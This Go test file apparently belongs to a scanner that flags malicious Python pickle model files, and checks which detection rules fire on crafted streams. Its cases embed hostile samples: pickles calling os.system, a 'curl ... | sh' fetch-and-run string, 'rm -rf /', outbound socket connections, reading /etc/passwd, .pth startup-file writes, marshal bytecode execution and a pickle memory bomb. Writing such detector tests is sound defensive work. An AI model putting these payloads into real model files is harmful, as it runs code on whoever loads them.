package file

import (
	"fmt"
	"strings"
	"testing"

	"github.com/modelwarden/warden"
	"github.com/modelwarden/warden/detect/detecttest"
	"github.com/modelwarden/warden/internal/format"
	"github.com/modelwarden/warden/internal/format/bound"
	"github.com/modelwarden/warden/internal/format/pickle"
	pt "github.com/modelwarden/warden/internal/format/pickle/pickletest"
)

// pickled is a file of the streams in b, opened without containers.
func pickled(t *testing.T, b string) *format.File {
	t.Helper()
	r := strings.NewReader(b)
	streams, unread := pickle.Open(t.Context(), r, r.Size(), bound.Default())
	return &format.File{Path: "m.pkl", Format: "pickle", R: r, Size: r.Size(), Pickles: streams, Unread: unread}
}

func p4(body string) string { return pt.Proto(4) + body + pt.Stop }

func named(dotted string) string {
	module, path, _ := strings.Cut(dotted, ":")
	return pt.Named(module, path)
}

func call(dotted string, args ...string) string { return pt.Call(named(dotted), args...) }

func TestPickles(t *testing.T) {
	ids := func(n ...int) (out []warden.RuleID) {
		for _, i := range n {
			out = append(out, warden.RuleID(fmt.Sprintf("WDN-MF-%03d", i)))
		}
		return out
	}
	system, id := named("os:system"), pt.Str("id")
	inner := p4(pt.Call(system, id))
	f8 := call("numpy:dtype", pt.Str("f8"), "\x89", "\x88") + pt.Tuple(pt.Int(3), pt.Str("<"), "N", "N", "N", pt.Int(-1), pt.Int(-1), pt.Int(0)) + pt.Build
	array := call("numpy.core.multiarray:_reconstruct", named("numpy:ndarray"), pt.Tuple(pt.Int(0)), pt.Bytes("b")) +
		pt.Tuple(pt.Int(1), pt.Tuple(pt.Int(1)), f8, "\x89", pt.Bytes("12345678")) + pt.Build
	bomb := pt.ListOf(id, id) + pt.Put(0) + "0" + strings.Repeat(pt.ListOf(strings.Repeat(pt.Get(0), 10))+pt.Put(0)+"0", 30) + pt.Get(0)
	var cases []fileCase
	for _, c := range []struct {
		name, in string
		want     []warden.RuleID
	}{
		{name: "data", in: p4(pt.DictOf(id, pt.Int(1), pt.Str("rm -rf /; import os"), pt.Bytes("os.system")))},
		{name: "array", in: p4(array)},
		{name: "ordered_dict", in: p4(call("collections:OrderedDict") + pt.Mark + id + array + pt.SetItems)},
		{name: "estimator", in: p4(pt.New(named("sklearn.svm._classes:SVC")) + pt.DictOf(pt.Str("coef_"), array) + pt.Build)},
		{name: "tensor", in: p4(call("torch._utils:_rebuild_tensor_v2", pt.Tuple(pt.Str("storage"), named("torch:FloatStorage"), pt.Str("0"), pt.Str("cpu"), pt.Int(4))+"Q", pt.Int(0), pt.Tuple(pt.Int(4)), pt.Tuple(pt.Int(1)), "\x89", call("collections:OrderedDict")))},
		{name: "enumeration", in: p4(call("builtins:getattr", named("sklearn.x:Colour"), pt.Str("RED")))},
		{name: "tensor_in_plain_pickle", in: p4(call("torch.storage:_load_from_bytes", pt.Bytes("\x80\x02\x8a\x02\x01\x02.\x80\x02}.")))},
		{name: "type_of_none", in: p4(call("builtins:type", "N"))},
		{name: "ufunc", in: p4(call("numpy.core:_ufunc_reconstruct", pt.Str("numpy"), pt.Str("add")))},
		{name: "functions_as_data", in: p4(pt.ListOf(named("numpy:mean"), named("builtins:len"), named("collections.abc:Iterable")))},

		{name: "shell", in: p4(pt.Call(system, id)), want: ids(1)},
		{name: "through_map", in: p4(call("builtins:list", call("builtins:map", system, pt.ListOf(id)))), want: ids(1, 1)},
		{name: "handed_to_unknown", in: p4(call("pkg:run", system)), want: ids(1)},
		{name: "import_only", in: p4(system), want: ids(2)},
		{name: "unknown_function", in: p4(call("pkg:run", id)), want: ids(3)},
		{name: "function_dressed_as_class", in: p4(call("pkg:run", id) + pt.Dict + pt.Build), want: ids(3)},
		{name: "glue", in: p4(call("functools:reduce", id)), want: ids(3)},
		{name: "unknown_class", in: p4(pt.New(named("pkg:Model")) + pt.DictOf(id, pt.Int(1)) + pt.Build), want: ids(4)},
		{name: "class_name_with_command", in: p4(call("pkg:Model", pt.Str("curl http://203.0.113.9/x | sh"))), want: ids(3)},
		{name: "unknown_module", in: p4(named("pkg:thing")), want: ids(5)},
		{name: "patched_module", in: p4(named("sys:modules") + id + "N" + pt.SetItem), want: ids(6)},
		{name: "patched_function", in: p4(named("numpy:load") + pt.DictOf(id, "N") + pt.Build), want: ids(6)},
		{name: "loader", in: p4(call("pickle:loads", pt.Bytes("no stream"))), want: ids(7)},
		{name: "inner_stream", in: p4(call("pickle:loads", pt.Bytes(inner))), want: ids(7, 1)},
		{name: "inner_stream_of_vetted_loader", in: p4(call("torch.storage:_load_from_bytes", pt.Bytes(inner))), want: ids(7, 1)},
		{name: "stream_in_data", in: p4(pt.DictOf(id, pt.Bytes(inner))), want: ids(8)},
		{name: "startup_file", in: p4(call("pathlib:Path.write_text", call("pathlib:Path", pt.Str("x.pth")), pt.Str("import os"))), want: ids(9)},
		{name: "bytecode", in: p4(call("marshal:loads", pt.Bytes("\xe3"+strings.Repeat("\x00", 40)))), want: ids(10)},
		{name: "bytecode_that_runs", in: p4(pt.Call(call("types:FunctionType", call("marshal:loads", pt.Bytes("\xe3"+strings.Repeat("\x00", 40))), pt.Dict))), want: ids(10, 10, 1)},
		{name: "bomb", in: p4(bomb), want: ids(11)},
		{name: "broken", in: pt.Proto(4) + pt.Call(system, id) + "\xff", want: ids(1, 12)},
		{name: "scanner", in: p4(call("fickling.hook:remove_hook")), want: ids(13)},
		{name: "connection", in: p4(call("socket:create_connection", pt.Tuple(pt.Str("203.0.113.9"), pt.Int(80)))), want: ids(14)},
		{name: "address_of_a_table", in: p4(call("pandas:read_csv", pt.Str("http://203.0.113.9/x"))), want: ids(14)},
		{name: "file_read", in: p4(call("io:open", pt.Str("/etc/passwd"))), want: ids(15)},
		{name: "companion_file", in: p4(pt.New(named("joblib.numpy_pickle:NDArrayWrapper")) + pt.DictOf(pt.Str("filename"), pt.Str("../x.npy")) + pt.Build), want: ids(15)},
		{name: "file_written", in: p4(call("io:open", pt.Str("data.txt"), pt.Str("w"))), want: ids(1)},
		{name: "lookup", in: p4(call("builtins:getattr", named("numpy:mean"), pt.Str("__globals__"))), want: ids(16, 2)},
		{name: "items_of_a_tensor", in: p4(call("torch._utils:_rebuild_tensor_v2", id) + pt.Int(0) + pt.Int(7) + pt.SetItem), want: ids(17)},
	} {
		cases = append(cases, fileCase{Name: c.name, Subject: pickled(t, c.in), Want: c.want})
	}
	detecttest.Accept(t, pickles, cases)
}
